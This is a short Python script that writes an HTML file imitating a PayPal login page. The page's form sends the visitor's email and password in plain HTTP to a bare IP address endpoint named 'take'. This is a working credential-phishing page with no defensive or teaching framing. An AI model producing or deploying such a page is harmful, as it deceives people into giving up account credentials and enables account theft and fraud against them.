page = """<html><title>Log in to your PayPal account</title>
<form action="http://192.0.2.7/take" method="post"><input name="mail"><input type="password" name="word"></form></html>"""
open("index.html", "w").write(page)
